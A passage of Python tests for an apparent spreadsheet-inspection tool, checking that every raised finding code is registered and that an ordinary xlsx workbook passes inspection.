    """A finding with a code that is none would fail where it is shown, far from here."""
    import re

    folder = Path(csv_file.__file__).parent
    names = ("archive", "csv_file", "gathered", "formula", "markup", "ods", "safety", "sandbox", "scanner", "xlsx")
    text = "".join((folder / f"{name}.py").read_text(encoding="utf-8") for name in names)
    raised = set(re.findall(r'(?:Finding|refused)\(\s*"(\w+)"', text))
    assert len(raised) > 15
    assert raised <= CODES.keys()


def test_what_other_programs_write_is_let_through(tmp_path: Path) -> None:
    book = openpyxl.Workbook()
    book.active["A1"] = "Maroc"
    book.save(tmp_path / "a.xlsx")
    assert inspect(tmp_path / "a.xlsx", "a.xlsx").kind == "xlsx"
